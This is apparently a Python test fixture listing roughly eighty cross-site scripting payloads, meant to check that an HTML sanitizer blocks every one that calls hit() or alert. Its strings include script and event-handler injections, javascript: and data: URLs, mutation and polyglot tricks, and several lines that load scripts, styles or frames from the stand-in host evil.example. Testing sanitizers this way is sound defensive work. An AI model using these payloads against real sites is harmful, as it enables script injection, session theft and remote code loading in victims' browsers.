"""Strings that run a script where a page lets them: every one calls ``hit()`` or ``alert``, which nothing may reach."""

PAYLOADS = r"""
<script>hit()</script>
<ScRiPt>hit()</sCrIpT>
<script src="https://evil.example/x.js"></script>
<script src=data:text/javascript,hit()></script>
<script>hit()<!--
</script><script>hit()</script>
</style><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
</noscript><script>hit()</script>
--><script>hit()</script>
]]><script>hit()</script>
"><script>hit()</script>
'><script>hit()</script>
`><script>hit()</script>
"autofocus onfocus=hit() x="
' onmouseover='hit()' x='
" onmouseover="hit()" style="position:fixed;inset:0
<img src=x onerror=hit()>
<img src=x onerror="hit()" alt="
<img/src=x/onerror=hit()>
<img src="https://evil.example/p.png">
<img src=`x`onerror=hit()>
<image src=x onerror=hit()>
<svg onload=hit()>
<svg/onload=hit()//
<svg><script>hit()</script></svg>
<svg><script href="data:text/javascript,hit()"/></svg>
<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=hit()>
<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x">
<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>
<math href="javascript:hit()">x</math>
<body onload=hit()>
<body onpageshow=hit()>
<iframe src="javascript:hit()"></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="javascript:hit()"></object>
<embed src="data:text/html,<script>hit()</script>">
<a href="javascript:hit()">x</a>
<a href="java&#115;cript:hit()">x</a>
<a href=" javascript:hit()">x</a>
<a href="data:text/html,<script>hit()</script>">x</a>
<form action="javascript:hit()"><input type=submit autofocus></form>
<form><button formaction="javascript:hit()">x</button></form>
<input onfocus=hit() autofocus>
<select onfocus=hit() autofocus>
<textarea onfocus=hit() autofocus>
<keygen onfocus=hit() autofocus>
<details open ontoggle=hit()>
<video><source onerror=hit()></video>
<video src=x onerror=hit()></video>
<audio src=x onerror=hit()></audio>
<marquee onstart=hit()>x</marquee>
<meta http-equiv="refresh" content="0;url=javascript:hit()">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=preload as=script href="https://evil.example/x.js">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(https://evil.example/p.png)}</style>
<div style="background:url(https://evil.example/p.png)">x</div>
<div style="animation:x" onanimationstart=hit()>x</div>
<template><script>hit()</script></template>
<template shadowrootmode=open><script>hit()</script></template>
<portal src="https://evil.example/">
<isindex action="javascript:hit()" type=image>
<xmp><p title="</xmp><svg/onload=hit()>">
<noscript><p title="</noscript><img src=x onerror=hit()>">
<listing>&lt;img src=x onerror=hit()&gt;</listing>
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
\x3cscript\x3ehit()\x3c/script\x3e
\u003cscript\u003ehit()\u003c/script\u003e
${hit()} {{hit()}} <%= hit() %> #{hit()}
{{constructor.constructor('hit()')()}}
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+hit()//'>
<a id=status></a><form name=body><input name=dataset></form>
""".strip().splitlines()
